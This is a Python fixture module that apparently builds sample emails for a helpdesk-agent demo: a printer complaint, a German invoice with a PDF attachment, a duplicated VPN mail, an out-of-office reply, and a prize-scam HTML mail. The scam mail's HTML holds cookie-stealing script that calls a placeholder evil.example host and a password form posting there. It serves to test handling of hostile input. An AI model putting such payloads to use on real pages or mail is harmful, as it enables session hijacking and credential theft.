"""The mails of the demo: what five strangers write, and how one of them answers.

Every mail has a fresh Message-ID, so a second demo is another day at the desk, no repetition.
"""

from copy import deepcopy
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid, parseaddr

INVOICE = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj
trailer<</Root 1 0 R>>
%%EOF
"""

HOSTILE = """\
<html><body onload="steal()">
<p>Dear friend, you have <b>won</b>! Confirm your account:</p>
<img src="x" onerror="fetch('https://evil.example/'+document.cookie)">
<a href="javascript:steal()">Confirm now</a>
<form action="https://evil.example/login"><input name="password"></form>
<script>steal()</script>
</body></html>
"""


def mail(sender: str, to: str, subject: str, text: str) -> EmailMessage:
    """A plain mail as a mail program sends it."""
    message = EmailMessage()
    message["From"] = sender
    message["To"] = to
    message["Subject"] = subject
    message["Date"] = format_datetime(datetime.now(UTC))
    message["Message-ID"] = make_msgid(domain=parseaddr(sender)[1].rpartition("@")[2])
    message.set_content(text)
    return message


def printer(to: str) -> EmailMessage:
    """The one whose ticket the demo follows."""
    return mail(
        "Maya Okafor <maya@northwind.example>",
        to,
        "The printer on floor 3 prints blank pages",
        "Hello,\n\nsince this morning the printer on floor 3 prints blank pages only.\n"
        "The toner was changed yesterday. We need it for the audit on Friday.\n\nMaya\n",
    )


def invoice(to: str) -> EmailMessage:
    """In German, with umlauts in every place and a file."""
    message = mail(
        "Jürgen Weiß <juergen@lindenhof.example>",
        to,
        "Rechnung doppelt gestellt – bitte prüfen",
        "Guten Tag,\n\ndie Rechnung im Anhang haben wir im März schon einmal bezahlt.\n"
        "Bitte prüfen Sie das und schicken Sie uns eine Gutschrift.\n\n"
        "Mit freundlichen Grüßen\nJürgen Weiß\n",
    )
    message.add_attachment(
        INVOICE, maintype="application", subtype="pdf", filename="Rechnung März.pdf"
    )
    return message


def vpn(to: str) -> EmailMessage:
    """The one whose mail server delivers it twice."""
    return mail(
        "Sam Lee <sam@riverbank.example>",
        to,
        "VPN drops every ten minutes",
        "Hi, the VPN disconnects me every ten minutes since the update on Monday. Sam\n",
    )


def hostile(to: str) -> EmailMessage:
    """HTML that would like to run in an agent's browser."""
    message = mail("Prize Office <prizes@lottery.example>", to, "You have won!", "")
    message.clear_content()
    message.set_content(HOSTILE, subtype="html")
    return message


def out_of_office(to: str) -> EmailMessage:
    """What a robot sends, and no ticket should be opened for (RFC 3834)."""
    message = mail(
        "Priya Nair <priya@harbour.example>",
        to,
        "Out of office: back on Monday",
        "I am away until Monday and read no mail.\n",
    )
    message["Auto-Submitted"] = "auto-replied"
    return message


def answer(to: EmailMessage, text: str) -> EmailMessage:
    """The customer's answer to one of our mails, as their mail program makes it."""
    subject = str(to["Subject"])
    message = mail(
        str(to["To"]),
        str(to["Reply-To"] or to["From"]),
        subject if subject.startswith("Re: ") else f"Re: {subject}",
        text,
    )
    message["In-Reply-To"] = str(to["Message-ID"])
    message["References"] = f"{to['References'] or ''} {to['Message-ID']}".strip()
    return message


def delivered_again(message: EmailMessage) -> EmailMessage:
    """The same mail by another route: a relay was not sure that the first one had arrived."""
    again = deepcopy(message)
    again["Received"] = "from relay-2.riverbank.example by mx.helpdesk.example"
    return again
